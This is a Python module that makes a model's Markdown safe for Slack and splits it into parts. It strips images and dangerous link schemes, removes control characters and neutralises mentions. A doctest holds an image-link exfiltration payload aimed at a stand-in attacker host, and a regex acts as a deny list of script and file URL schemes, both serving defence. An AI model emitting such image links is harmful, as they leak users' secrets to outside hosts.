"""A model's Markdown, made safe and cut to the sizes that Slack accepts."""

import re

PART = 11_500
"""Characters of one markdown block; Slack documents 12,000, cumulative over a message."""
MOST_HEADINGS = 20
"""Headings, rules and tables of one part: each becomes blocks of its own, and Slack counts to 50."""

_CODE = re.compile(r"(```.*?(?:```|\Z)|`[^`\n]*`)", re.DOTALL)
_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\](?:\([^)\n]{0,4000}\)|\[[^\]\n]{0,500}\])")
_HTML_IMAGE = re.compile(r"<img\b[^<>]{0,4000}>", re.IGNORECASE)
_BAD_LINK = re.compile(
    r"\[([^\]\n]{0,500})\]\(\s{0,9}(?:javascript|data|vbscript|file):[^)\n]{0,4000}\)", re.IGNORECASE
)
_SLACK_LINK = re.compile(r"<(https?://[^|<>\s]{1,2000})\|([^<>\n]{1,500})>")
_CALL = re.compile(r"<(?:!(?:subteam\^)?|@|#)([A-Za-z0-9]+)(?:[|^][^<>\n]{0,300})?>")
_BROADCAST = re.compile(r"@(?=(?:channel|here|everyone)\b)", re.IGNORECASE)
_CONTROL = re.compile(r"\x1b\[[0-9;?]{0,20}[A-Za-z]|[\x00-\x08\x0b-\x1f\x7f\ud800-\udfff]")
_UNFINISHED = re.compile(
    r"(?:<[^<>\n]{0,300}|!?\[[^\]\n]{0,300}(?:\](?:[(\[][^)\]\n]{0,500})?)?|!|@\w{0,8}|\x1b\[?[0-9;?]{0,20})\Z"
)
_FENCE = re.compile(r"^```[^\n`]{0,40}$", re.MULTILINE)
_RULE = re.compile(r"\|[ \t:|-]+\|?[ \t]*")
_WEIGHTY = re.compile(r"^(?:#{1,6} .*|---+[ \t]*|\|[ \t:|-]+\|?[ \t]*)$", re.MULTILINE)

_NO_CALL = "@\u200b"
"""A zero-width space behind the sign: readable, and nobody is notified."""


def safe(source: str) -> str:
    """Text that notifies nobody, fetches nothing and links only to the web.

    Images are a known way to carry data out through the address that is fetched.

    >>> safe("see ![chart](https://evil.example/?q=secret) <https://a.eu|here>")
    'see chart [here](https://a.eu)'
    """
    pieces = _CODE.split(_CONTROL.sub("", source))
    pieces[::2] = [_harmless(piece) for piece in pieces[::2]]
    called = _CALL.sub(lambda call: _NO_CALL + call.group(1), "".join(pieces))
    return _BROADCAST.sub(_NO_CALL, called)


def settled(source: str) -> str:
    """The beginning of an unfinished text that `safe` will not change when more arrives.

    >>> settled("a chart ![of")
    'a chart '
    """
    tail = max(0, len(source) - 900)
    unfinished = _UNFINISHED.search(source, tail)
    return source[: unfinished.start()] if unfinished else source


def split(source: str, limit: int = PART) -> list[str]:
    """The text in parts of at most `limit` characters, cut between paragraphs where that is possible.

    A code block that has to be cut is closed and opened again, and a table gets its head again, so that each
    part stands alone.

    >>> split("one two\\n\\nthree", limit=12)
    ['one two', 'three']
    """
    parts: list[str] = []
    opening, rest = "", source.strip()
    while len(opening) + len(rest) > limit or len(_WEIGHTY.findall(rest)) > MOST_HEADINGS:
        cut = _border(rest, _room(rest, limit - len(opening) - len("\n```")))
        head = opening + rest[:cut].rstrip()
        fence = _open_fence(head)
        parts.append(f"{head}\n```" if fence else head)
        rest = rest[cut:].lstrip("\n")
        opening = f"{fence}\n" if fence else _table_head(head, rest, limit)
    return [*parts, opening + rest]


def _harmless(piece: str) -> str:
    without = _BAD_LINK.sub(r"\1", _HTML_IMAGE.sub("", _IMAGE.sub(r"\1", piece)))
    return _SLACK_LINK.sub(r"[\2](\1)", without)


def _room(source: str, characters: int) -> int:
    """How much of the text fits by length and by number of weighty lines."""
    weighty = list(_WEIGHTY.finditer(source))
    if len(weighty) > MOST_HEADINGS:
        return max(1, min(characters, weighty[MOST_HEADINGS].start()))
    return characters


def _border(source: str, room: int) -> int:
    """Where to cut at the latest: before a paragraph outside code, a line, a word, or anywhere."""
    if len(source) <= room:
        return len(source)
    at = room
    while (at := source.rfind("\n\n", room // 3, at)) > 0:
        if not _open_fence(source[:at]):
            return at
    for gap in ("\n", " "):
        if (at := source.rfind(gap, room // 3, room)) > 0:
            return at
    return room


def _table_head(above: str, below: str, limit: int) -> str:
    """The first two lines of a table that was cut between two rows; empty if none was, or they are huge."""
    rows: list[str] = []
    if below.startswith("|"):
        for line in reversed(above.splitlines()):
            if not line.startswith("|"):
                break
            rows.insert(0, line)
    if len(rows) < 2 or not _RULE.fullmatch(rows[1]) or sum(map(len, rows[:2])) > limit // 4:
        return ""
    return f"{rows[0]}\n{rows[1]}\n"


def _open_fence(source: str) -> str:
    """The line that opened a code block which the text does not close; empty if there is none."""
    fences = _FENCE.findall(source)
    return fences[-1] if len(fences) % 2 else ""
